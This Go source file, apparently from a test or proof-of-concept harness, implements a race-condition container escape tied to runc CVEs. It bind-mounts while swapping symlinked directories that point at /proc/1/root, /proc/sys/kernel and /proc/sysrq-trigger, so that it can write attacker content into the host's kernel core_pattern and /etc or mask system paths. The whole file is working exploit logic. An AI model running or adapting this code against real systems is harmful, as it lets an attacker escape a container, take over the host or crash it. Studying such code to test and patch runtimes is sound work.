package main

import (
	"fmt"
	"os"
	"runtime"
	"strings"
	"sync/atomic"
	"time"

	"golang.org/x/sys/unix"
)

// Exchanges folders and links to the machine's files under the hands of who
// mounts there, or covers them for a mask (CVE-2025-31133, -52565, -52881).
func attack(where string) {
	if where != "host" {
		return
	}
	for _, dir := range []string{"/tmp/race", "/tmp/race/target", "/tmp/race/real"} {
		os.MkdirAll(dir, 0o777)
	}
	os.Symlink("/proc/1/root", "/tmp/race/link")
	os.Symlink("/proc/sys/kernel", "/tmp/race/sys")
	os.Symlink("/proc/sysrq-trigger", "/tmp/race/null")
	var stop atomic.Bool
	done := make(chan bool)
	go func() {
		runtime.LockOSThread()
		for !stop.Load() {
			for _, with := range []string{"link", "sys", "real"} {
				unix.Renameat2(unix.AT_FDCWD, "/tmp/race/target", unix.AT_FDCWD, "/tmp/race/"+with, unix.RENAME_EXCHANGE)
			}
		}
		done <- true
	}()
	written, mounted := 0, 0
	for start := time.Now(); time.Since(start) < 100*time.Millisecond || mounted == 0 && time.Since(start) < 3*time.Second; {
		if unix.Mount("/usr", "/tmp/race/target", "", unix.MS_BIND, "") == nil {
			mounted++
			unix.Unmount("/tmp/race/target", unix.MNT_DETACH)
		}
		for _, file := range []string{"core_pattern", "etc/" + evil, "tmp/" + evil} {
			fd, err := unix.Open("/tmp/race/target/"+file, unix.O_WRONLY|unix.O_CREAT|unix.O_CLOEXEC, 0o666)
			if err != nil {
				continue
			}
			if _, err := unix.Write(fd, []byte(evil)); err == nil {
				if at, _ := os.Readlink(fmt.Sprint("/proc/self/fd/", fd)); !strings.HasPrefix(at, "/tmp/") {
					written++
				}
			}
			unix.Close(fd)
		}
	}
	stop.Store(true)
	<-done
	for _, dir := range []string{"/usr", "/dev/null", "/proc/sys/kernel", "/proc/sysrq-trigger"} {
		tried("cover "+dir, unix.Mount("/tmp/race/null", dir, "", unix.MS_BIND, ""))
		unix.Unmount(dir, unix.MNT_DETACH)
	}
	// What the race left where it was not looked for.
	for data := "/tmp/race"; strings.Contains(data, "/tmp/race"); {
		info, _ := os.ReadFile("/proc/self/mountinfo")
		data = string(info)
		for line := range strings.Lines(data) {
			if at := strings.Fields(line)[4]; strings.HasPrefix(at, "/tmp/race") {
				unix.Unmount(at, unix.MNT_DETACH)
			}
		}
	}
	say(mounted > 0, "mounted in the race")
	say(written > 0, "wrote out of the race")
}
